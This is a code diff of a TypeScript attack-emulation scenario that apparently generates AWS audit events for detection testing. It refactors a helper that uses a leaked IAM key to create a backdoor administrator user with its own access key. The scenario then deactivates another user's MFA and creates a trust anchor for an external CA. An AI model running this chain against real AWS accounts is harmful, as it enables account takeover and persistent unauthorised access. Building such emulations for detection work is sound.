@@ -1,42 +1,15 @@
 import {
-  AttachUserPolicyCommand,
-  CreateAccessKeyCommand,
   CreatePolicyCommand,
-  CreateUserCommand,
   DeactivateMFADeviceCommand,
   ListMFADevicesCommand,
 } from '@aws-sdk/client-iam'
-import {
-  awsCli,
-  CreateTrustAnchorCommand,
-  defineScenario,
-  iamUser,
-  seconds,
-  type Actor,
-  type Play,
-} from 'trailproof'
+import { awsCli, CreateTrustAnchorCommand, defineScenario, iamUser, seconds } from 'trailproof'
 import { externalCa } from './support/certificate.ts'
+import { ownAdministrator } from './support/own-administrator.ts'
 import { allowAll, padded } from './support/policies.ts'
 
 const abroad = { place: 'amsterdam', client: awsCli({ os: 'kali' }) }
 const leaked = iamUser('deploy-bot', { as: 'leaked', ...abroad })
-
-/** A user of the attacker's own, with a key and the administrator policy. */
-async function ownAdministrator(play: Play): Promise<Actor> {
-  const as = play.as(leaked)
-  await as.send(new CreateUserCommand({ UserName: 'aws-backup' }), { technique: 'T1136.003' })
-  const { AccessKey } = await as.send(new CreateAccessKeyCommand({ UserName: 'aws-backup' }), {
-    technique: 'T1098.001',
-  })
-  await as.send(
-    new AttachUserPolicyCommand({
-      UserName: 'aws-backup',
-      PolicyArn: 'arn:aws:iam::aws:policy/AdministratorAccess',
-    }),
-    { technique: 'T1098.003' },
-  )
-  return play.actor('backdoor', AccessKey, abroad)
-}
 
 export default defineScenario({
   title: 'Campaign: a shell script turns a leaked key into an account that trusts the attacker',
@@ -58,7 +31,8 @@ export default defineScenario({
   cast: { leaked },
   attack: {
     'from the leaked key to the padded policy': async (play) => {
-      const as = play.as(await ownAdministrator(play))
+      const key = await ownAdministrator(play, leaked, 'aws-backup')
+      const as = play.as(play.actor('backdoor', key, abroad))
       await play.wait(seconds(1))
       await as.send(new ListMFADevicesCommand({ UserName: 'alice' }))
       await as.send(
